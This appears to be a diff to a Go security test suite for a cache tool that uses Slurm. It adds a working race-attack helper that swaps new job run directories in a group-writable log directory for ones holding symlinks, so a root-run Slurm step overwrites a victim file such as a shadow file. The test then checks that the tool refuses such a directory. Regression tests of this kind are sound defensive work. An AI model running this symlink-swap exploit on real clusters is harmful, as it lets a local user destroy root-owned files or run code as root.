@@ -13,6 +13,12 @@ import (
 	"strings"
 	"syscall"
 	"testing"
+	"time"
+	"unsafe"
+
+	"golang.org/x/sys/unix"
+
+	"github.com/cachectl/cachectl/providers/slurm/slurmtest"
 )
 
 // The attacker's extra steps of this round (attack_helper_test.go
@@ -23,6 +29,7 @@ var _ = func() bool {
 	// link OLD NEW: a hard link (the kernel's protected_hardlinks lets a
 	// user link a file they own, or one they may read and write).
 	attack2Commands["link"] = func(a []string) error { return os.Link(a[0], a[1]) }
+	attack2Commands["rundirswap"] = runDirSwap
 	return true
 }()
 
@@ -55,7 +62,7 @@ func TestAttackImportHardLinkInPlace(t *testing.T) {
 	const teammate = 65534 // nobody: another user, not the attacker
 	root := e.path("cache", "sif")
 	for _, d := range []string{root, filepath.Join(root, "crafted")} {
-		victimDir(t, d, 0o2775)
+		victimDir(t, d, 0o775)
 		must(t, os.Chown(d, 0, e.gid))
 	}
 	e.writeSpec(sifCache("sif", root, "0644", []string{"crafted/app:1"}))
@@ -100,4 +107,153 @@ func errorLine(out string) string {
 		}
 	}
 	return ""
+}
+
+// runDirSwap LOGDIR VICTIM DURATION: the member watches a Slurm log
+// directory they may write (inotify) and, when cachectl makes a new run
+// directory there, renames it aside and makes their own directory of the
+// same name, holding a symbolic link to VICTIM under the name of the job's
+// log (stage.log, and the first logs of a build array: JOBID_0.log for
+// the next job ids). cachectl then writes its task list and script into
+// the member's directory and submits the job, whose output Slurm opens as
+// root at the path given. It prints what it did.
+func runDirSwap(a []string) error {
+	logDir, victim := a[0], a[1]
+	stop, err := until(a[2])
+	if err != nil {
+		return err
+	}
+	fd, err := unix.InotifyInit1(unix.IN_CLOEXEC)
+	if err != nil {
+		return err
+	}
+	defer unix.Close(fd)
+	if _, err := unix.InotifyAddWatch(fd, logDir, unix.IN_CREATE|unix.IN_ONLYDIR); err != nil {
+		return err
+	}
+	n := 0
+	buf := make([]byte, 4096)
+	for !stopped(stop) {
+		pfd := []unix.PollFd{{Fd: int32(fd), Events: unix.POLLIN}}
+		if k, _ := unix.Poll(pfd, 10); k <= 0 {
+			continue
+		}
+		k, err := unix.Read(fd, buf)
+		if err != nil || k <= 0 {
+			continue
+		}
+		for off := 0; off+unix.SizeofInotifyEvent <= k; {
+			ev := (*unix.InotifyEvent)(unsafe.Pointer(&buf[off]))
+			name := strings.TrimRight(string(buf[off+unix.SizeofInotifyEvent:off+unix.SizeofInotifyEvent+int(ev.Len)]), "\x00")
+			off += unix.SizeofInotifyEvent + int(ev.Len)
+			if ev.Mask&unix.IN_ISDIR == 0 || strings.HasSuffix(name, ".moved") {
+				continue
+			}
+			d := filepath.Join(logDir, name)
+			if err := os.Rename(d, d+".moved"); err != nil {
+				fmt.Printf("rename %s: %v\n", name, err)
+				continue
+			}
+			if err := os.Mkdir(d, 0o777); err != nil {
+				fmt.Printf("mkdir %s: %v\n", name, err)
+				continue
+			}
+			os.Chmod(d, 0o777)
+			os.Symlink(victim, filepath.Join(d, "stage.log"))
+			n++
+			fmt.Printf("swapped %s\n", name)
+		}
+	}
+	fmt.Printf("run directories swapped: %d\n", n)
+	return nil
+}
+
+// TestAttackSlurmLogDir: the Slurm executor and "cachectl stage" make each
+// job's run directory (task list, batch script, logs) under the spec's
+// log_dir with os.Mkdir, write into it and hand its paths to sbatch —
+// whatever log_dir's owner and mode. A site that keeps its cachectl logs
+// in a directory of the cache group (chgrp hpc, 0775 or 2775, as it
+// does its caches) lets a member rename each new run directory aside and put their
+// own in its place, with a symbolic link at the job's output file: Slurm
+// (slurmstepd, as root, the job's submitter) opens --output=RUNDIR/stage.log
+// through it and truncates and writes any file on the host — here a
+// root-owned victim. (The member may also replace the batch script
+// before sbatch reads it: the job then runs their script as root on every
+// node.)
+//
+// stage (and apply --executor slurm) must refuse a log directory that
+// others may write (or one owned by another user), before anything is
+// submitted, saying which directory and how to fix it.
+func TestAttackSlurmLogDir(t *testing.T) {
+	srv := newAttackRegistry(t)
+	ref := srv.Ref("logdir/app:1")
+	pushSmall(t, ref, 300)
+	e := newAttackEnv(t)
+	cluster := slurmtest.Start(t, 1, 1)
+	t.Setenv("SLURM_CONF", cluster.Conf)
+
+	logDir := e.path("logs")
+	victimDir(t, logDir, 0o775)
+	must(t, os.Chown(logDir, 0, e.gid))
+	root := e.path("cache", "sqsh")
+	e.writeSpec(fmt.Sprintf(`
+cachectl {
+  slurm {
+    log_dir        = %q
+    poll_interval  = "200ms"
+    result_timeout = "5s"
+  }
+}
+
+cache "sqsh" {
+  runtime   = "enroot"
+  root      = %q
+  images    = [%q]
+  owner     = "root"
+  group     = %q
+  file_mode = "0644"
+  dir_mode  = "2755"
+}
+
+node_cache "local" {
+  from      = "sqsh"
+  root      = %q
+  partition = %q
+}
+`, logDir, root, ref, attackerGroup, e.path("local", "%n"), cluster.Partition))
+	e.mustApply()
+
+	victim := e.path("victim")
+	victimDir(t, victim, 0o755)
+	victimFile(t, filepath.Join(victim, "shadow"), "root:$6$not-for-anyone$:19000:0:99999:7:::\n", 0o600)
+	v := watchVictims(t, victim)
+
+	stop := e.background("rundirswap", logDir, filepath.Join(victim, "shadow"), "60s")
+	time.Sleep(20 * time.Millisecond) // the watch is set
+	r := e.cachectl("stage")
+	t.Logf("member: %s", strings.TrimSpace(stop()))
+	checkClean(t, r, 0, 1)
+	t.Logf("stage: exit %d: %s", r.code, errorLine(r.out))
+	if !v.check("stage with a log_dir the cache group may write") {
+		t.Logf("%s", r)
+	}
+	if r.code == 0 {
+		t.Errorf("stage ran with log_dir %s writable by group %s (mode 0775):\n%s", logDir, attackerGroup, r)
+	} else if !strings.Contains(r.out, logDir) {
+		t.Errorf("the refusal should name the log directory %s:\n%s", logDir, r)
+	}
+
+	// apply --executor slurm makes its run directories there too: it
+	// must refuse before it changes anything.
+	must(t, os.RemoveAll(root))
+	r = e.cachectl(append(applyArgs, "--executor", "slurm")...)
+	checkClean(t, r, 0, 1)
+	t.Logf("apply --executor slurm: exit %d: %s", r.code, errorLine(r.out))
+	if r.code == 0 || !strings.Contains(r.out, logDir) {
+		t.Errorf("apply --executor slurm with log_dir %s writable by group %s should refuse, naming it:\n%s", logDir, attackerGroup, r)
+	}
+	if _, err := os.Lstat(root); err == nil {
+		t.Errorf("the refused apply created %s", root)
+	}
+	v.check("apply --executor slurm with a log_dir the cache group may write")
 }
